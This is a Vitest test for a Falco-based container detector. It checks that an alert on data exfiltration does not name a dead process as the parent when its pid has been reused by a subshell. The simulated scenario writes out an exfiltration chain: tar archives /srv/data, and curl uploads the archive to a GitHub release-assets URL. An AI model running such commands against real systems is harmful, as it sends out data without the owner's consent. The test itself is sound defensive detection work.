/**
 * Falco names a parent by pid only. A pid whose tracked owner exited before the exec is not that owner: the
 * kernel gave it again, to a fork that did not exec (a subshell), so no exec event replaced the dead one in
 * the table. The push's parent chain must not name the dead process (here a finished report job) as the
 * one that started it, nor take its lineage.
 */
import { describe, expect, it } from 'vitest';
import { MiB, run, Scenario } from './builder.js';

describe("a push's parent under a reused pid (Falco)", () => {
  it("is not the pid's dead owner", () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container({ name: 'worker' });
    const sh = s.init(c, '/bin/bash', '/entrypoint.sh');
    const job = s.exec(c, '/usr/bin/python3', '/app/nightly_report.py', { parent: sh });
    s.wait(500).exit(job);
    s.wait(500);
    // A subshell of the entrypoint, forked under the job's old pid: no exec event.
    const subshell = { ...sh, pid: job.pid, ppid: sh.pid, containerPid: job.containerPid };
    const tar = s.exec(c, '/bin/tar', 'czf /tmp/d.tgz /srv/data', { parent: subshell });
    s.readMany(tar, '/srv/data', 10, 8 * MiB);
    const curl = s.exec(c, '/usr/bin/curl', '-T /tmp/d.tgz https://uploads.github.com/repos/e/l/releases/1/assets', {
      parent: subshell,
    });
    s.connect(curl, '140.82.113.14', 443).send(curl, '140.82.113.14', 443, 80 * MiB);
    const [a] = run(s.events).alerts;
    expect(a?.process.binary).toBe('/usr/bin/curl');
    expect(a?.response[0]).toContain('Find who or what started');
    expect(a?.response[0]).not.toContain('nightly_report');
    expect(a?.response[0]).not.toContain('python3');
    // No parent in the tables: the one curl's own event names (the subshell, as its entrypoint).
    expect(a?.response[0]).toContain('started by `/bin/bash /entrypoint.sh`, in pod');
  });
});
